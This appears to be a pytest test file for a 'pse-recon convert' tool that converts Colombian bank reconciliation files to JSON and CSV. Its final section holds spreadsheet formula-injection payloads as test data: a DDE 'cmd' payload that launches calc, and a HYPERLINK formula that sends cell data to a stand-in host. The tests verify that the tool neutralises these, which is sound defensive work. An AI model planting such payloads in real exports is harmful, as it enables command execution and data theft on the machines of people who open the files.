"""``pse-recon convert``: every record as JSON, the details as CSV, written atomically."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest

CSV_HEADER = (
    "line,tipo_registro,referencia_principal,valor_recaudado,procedencia_pago,medio_pago,"
    "numero_operacion,numero_autorizacion,codigo_entidad_debitada,codigo_sucursal,secuencia,"
    "causal_devolucion"
)
EXAMPLE_CSV = "\n".join([
    CSV_HEADER,
    "3,06,000000000000000000000000000000000000000000021053,85400.00,99,15,104233,558812,051,0003,2,",
    "4,06,000000000000000000000000000000000000000000088120,132950.50,99,15,104240,000311,007,0003,3,",
    "5,06,000000000000000000000000000000000000000001002003,46100.00,99,15,104251,771204,013,0003,4,",
    "8,06,000000000000000000000000000000000000000005500012,1250000.00,99,15,104302,200455,001,0003,2,",
    "",
])


def test_csv_of_the_example(run: Any, example: Path) -> None:
    r = run("convert", example, "--to", "csv")
    assert (r.code, r.err) == (0, "")
    assert r.out == EXAMPLE_CSV


def test_json_of_the_example(run: Any, example: Path) -> None:
    r = run("convert", example, "--to", "json")
    assert (r.code, r.err) == (0, "")
    doc = json.loads(r.out)
    assert (doc["format"], doc["width"]) == ("asobancaria-2001", 162)
    assert [(x["line"], x["record_type"]) for x in doc["records"]] == [
        (1, "01"), (2, "05"), (3, "06"), (4, "06"), (5, "06"), (6, "08"), (7, "05"), (8, "06"),
        (9, "08"), (10, "09"),
    ]
    assert doc["records"][0]["fields"] == {
        "tipo_registro": "01", "nit_empresa": "8001234565", "fecha_pago": "2026-11-20",
        "codigo_entidad_recaudadora": "007", "numero_cuenta": "12345678901",
        "fecha_archivo": "2026-11-20", "hora_archivo": "18:30", "modificador_archivo": "A",
        "tipo_cuenta": "02",
    }
    assert doc["records"][3]["fields"] == {
        "tipo_registro": "06",
        "referencia_principal": "000000000000000000000000000000000000000000088120",
        "valor_recaudado": "132950.50", "procedencia_pago": "99", "medio_pago": "15",
        "numero_operacion": "104240", "numero_autorizacion": "000311",
        "codigo_entidad_debitada": "007", "codigo_sucursal": "0003", "secuencia": 3,
        "causal_devolucion": "",
    }
    assert doc["records"][8]["fields"] == {
        "tipo_registro": "08", "total_registros_lote": 1, "valor_total_lote": "1250000.00",
        "numero_lote": 2,
    }
    assert doc["records"][9]["fields"] == {
        "tipo_registro": "09", "total_registros": 4, "valor_total": "1514450.50",
    }
    assert '"valor_total": "1514450.50"' in r.out  # a string, never a float


def test_2400_is_24_00(run: Any, example: Path, tmp_path: Path) -> None:
    data = example.read_bytes().replace(b"202611201830A02", b"202611202400A02")
    source = tmp_path / "midnight.txt"
    source.write_bytes(data)
    doc = json.loads(run("convert", source, "--to", "json").out)
    assert doc["records"][0]["fields"]["hora_archivo"] == "24:00"


def test_pse_detail_csv_is_the_type_2_lines(run: Any, pse_detail_file: Path) -> None:
    r = run("convert", pse_detail_file, "--to", "csv")
    assert (r.code, r.err) == (0, "")
    rows = list(csv.reader(io.StringIO(r.out)))
    assert rows[0] == [
        "line", "registro", "estado", "ticket_id", "cus", "codigo_entidad", "codigo_servicio",
        "entidad_credito", "cuenta_credito", "valor_transaccion", "valor_iva",
        "codigo_autorizacion", "referencia_1", "referencia_2", "referencia_3", "canal_pago",
        "fecha_proceso", "hora_registro_pse", "ciclo_proceso",
    ]
    assert rows[2] == [
        "3", "2", "1", "00000000000000000002", "12345678", "00001051", "1234567890", "00001007",
        "12345678901", "50000.50", "0.00", "", "", "", "", "1", "2026-11-20", "10:00:00", "1",
    ]
    assert len(rows) == 5


def test_pse_json_times_with_seconds(run: Any, pse_detail_file: Path) -> None:
    doc = json.loads(run("convert", pse_detail_file, "--to", "json").out)
    assert doc["width"] is None
    assert doc["records"][0]["fields"]["hora_cierre_ciclo"] == "23:59:59"
    assert doc["records"][-1]["fields"] == {
        "registro": "3", "estado": "9", "cantidad_registros": 4, "valor_total": "170001.50",
        "valor_iva": "0.00",
    }


def test_output_file(run: Any, example: Path, tmp_path: Path) -> None:
    out = tmp_path / "details.csv"
    r = run("convert", example, "--to", "csv", "-o", out)
    assert (r.code, r.out, r.err) == (0, "", "")
    assert out.read_text(encoding="utf-8") == EXAMPLE_CSV
    assert sorted(p.name for p in tmp_path.iterdir()) == ["details.csv"]  # no temporary left


def test_output_replaces_an_existing_file(run: Any, example: Path, tmp_path: Path) -> None:
    out = tmp_path / "details.json"
    out.write_text("old")
    assert run("convert", example, "--to", "json", "--output", out).code == 0
    assert json.loads(out.read_text(encoding="utf-8"))["records"][9]["fields"]["total_registros"] == 4


def test_dash_is_standard_output(run: Any, example: Path) -> None:
    r = run("convert", example, "--to", "csv", "-o", "-")
    assert (r.code, r.out) == (0, EXAMPLE_CSV)


def test_refuses_to_overwrite_the_input(run: Any, example: Path, tmp_path: Path) -> None:
    source = tmp_path / "in.txt"
    source.write_bytes(example.read_bytes())
    r = run("convert", source, "--to", "json", "-o", source)
    assert (r.code, r.out) == (2, "")
    assert r.err == f"pse-recon: error: {source} is the input file; refusing to overwrite it\n"
    assert source.read_bytes() == example.read_bytes()


def test_refuses_to_overwrite_the_input_by_another_name(
    run: Any, example: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = tmp_path / "in.txt"
    source.write_bytes(example.read_bytes())
    link = tmp_path / "link.txt"
    os.symlink(source, link)
    monkeypatch.chdir(tmp_path)
    r = run("convert", "./in.txt", "--to", "csv", "-o", "link.txt")
    assert r.code == 2
    assert source.read_bytes() == example.read_bytes()


def test_refusal_in_spanish(run: Any, example: Path, tmp_path: Path) -> None:
    source = tmp_path / "in.txt"
    source.write_bytes(example.read_bytes())
    r = run("--lang", "es", "convert", source, "--to", "json", "-o", source)
    assert r.err == f"pse-recon: error: {source} es el archivo de entrada; no se sobrescribe\n"


def test_unwritable_output(run: Any, example: Path, tmp_path: Path) -> None:
    r = run("convert", example, "--to", "csv", "-o", tmp_path / "no-such-dir" / "out.csv")
    assert (r.code, r.out) == (2, "")
    assert r.err == (
        f"pse-recon: error: cannot write {tmp_path / 'no-such-dir' / 'out.csv'}: "
        "no such file or directory\n"
    )


def test_output_is_a_directory(run: Any, example: Path, tmp_path: Path) -> None:
    r = run("convert", example, "--to", "csv", "-o", tmp_path)
    assert r.code == 2
    assert r.err == f"pse-recon: error: cannot write {tmp_path}: is a directory\n"


def test_to_is_required_and_checked(run: Any, example: Path) -> None:
    r = run("convert", example)
    assert r.code == 2
    assert r.err.startswith("pse-recon: error: the following arguments are required: --to\n")
    r = run("convert", example, "--to", "xml")
    assert r.code == 2
    assert r.err.startswith("pse-recon: error: argument --to: invalid choice: 'xml'")


def test_missing_input(run: Any, tmp_path: Path) -> None:
    r = run("convert", tmp_path / "nope.txt", "--to", "json")
    assert (r.code, r.out) == (2, "")
    assert r.err == f"pse-recon: error: {tmp_path / 'nope.txt'}: no such file or directory\n"


def test_unreadable_content_prints_the_findings(run: Any, tmp_path: Path, example: Path) -> None:
    source = tmp_path / "bad.txt"
    lines = example.read_bytes().split(b"\n")
    lines[2] = lines[2][:60] + b"X" + lines[2][61:]  # a letter in valor_recaudado (51-64)
    source.write_bytes(b"\n".join(lines))
    r = run("convert", source, "--to", "json")
    assert (r.code, r.out) == (4, "")
    assert r.err == (
        f"{source}:3:51: error: PR101 valor_recaudado: "
        "must hold digits only, found '0000000854X000'\n"  # validate's words, the field named once
    )


def test_forced_format_that_does_not_fit(run: Any, example: Path) -> None:
    r = run("convert", example, "--to", "csv", "--format", "andesco")
    assert (r.code, r.out) == (4, "")
    assert r.err.startswith(f"{example}:1:")


def test_a_readable_file_with_errors_is_converted_with_its_errors_and_exit_1(
    run: Any, tmp_path: Path, real_dir: Path
) -> None:
    """convert writes what the file says, and says the file is not valid."""
    path = real_dir / "asobancaria2001-davivienda-bad-controls.txt"
    r = run("convert", path, "--to", "csv")
    assert r.code == 1
    assert r.out.splitlines()[1:] == [
        "3,06,000000000000000000000000000000000000000000007782,996831.00,01,01,839411,318104,051,3332,2,",
        "4,06,000000000000000000000000000000000000000000006518,0.00,01,01,839452,825457,051,3332,3,",
    ]
    assert r.err.splitlines()[0] == (
        f"{path}:5:3: error: PR301 total_registros_lote: says 4 records, but "
        "there are 2"
    )
    assert len(r.err.splitlines()) == 4  # errors only: the warnings are validate's to list
    out = tmp_path / "out.json"
    r = run("convert", path, "--to", "json", "-o", out)
    assert (r.code, r.out) == (1, "")
    assert len(json.loads(out.read_text("utf-8"))["records"]) == 6


# -- cells a spreadsheet would run -------------------------------------------------------------
FORMULAS = {  # field: (columns of a pse-detail type-2 line, value)
    "cuenta_credito": ((57, 17), "-2+3"),
    "codigo_autorizacion": ((110, 50), '=HYPERLINK("http://x.example/?"&A1,"pay")'),
    "referencia_1": ((160, 20), "=1+2"),
    "referencia_2": ((180, 20), "@SUM(A1)"),
    "referencia_3": ((200, 20), "+cmd|' /C calc'!A0"),
}


@pytest.fixture
def formulas(tmp_path: Path, pse_detail_file: Path) -> Path:
    lines = pse_detail_file.read_bytes().split(b"\n")
    line = lines[1]
    for (start, length), value in FORMULAS.values():
        line = line[: start - 1] + value.encode("ascii").ljust(length) + line[start - 1 + length :]
    lines[1] = line
    source = tmp_path / "formulas.txt"
    source.write_bytes(b"\n".join(lines))
    return source


def test_csv_neutralises_formulas_in_text_cells(run: Any, formulas: Path) -> None:
    r = run("convert", formulas, "--to", "csv")
    assert (r.code, r.err) == (0, "")
    rows = list(csv.DictReader(io.StringIO(r.out)))
    assert {name: rows[0][name] for name in FORMULAS} == {
        name: "'" + value for name, ((_, _), value) in FORMULAS.items()
    }
    assert (rows[0]["valor_transaccion"], rows[0]["fecha_proceso"]) == ("100000.00", "2026-11-20")
    assert rows[1]["referencia_1"] == ""  # untouched where there is nothing to neutralise
    json_fields = json.loads(run("convert", formulas, "--to", "json").out)["records"][1]["fields"]
    assert {name: json_fields[name] for name in FORMULAS} == {
        name: value for name, ((_, _), value) in FORMULAS.items()  # JSON is no spreadsheet
    }


def test_raw_cells_keeps_them(run: Any, formulas: Path) -> None:
    r = run("convert", formulas, "--to", "csv", "--raw-cells")
    rows = list(csv.DictReader(io.StringIO(r.out)))
    assert {name: rows[0][name] for name in FORMULAS} == {
        name: value for name, ((_, _), value) in FORMULAS.items()
    }
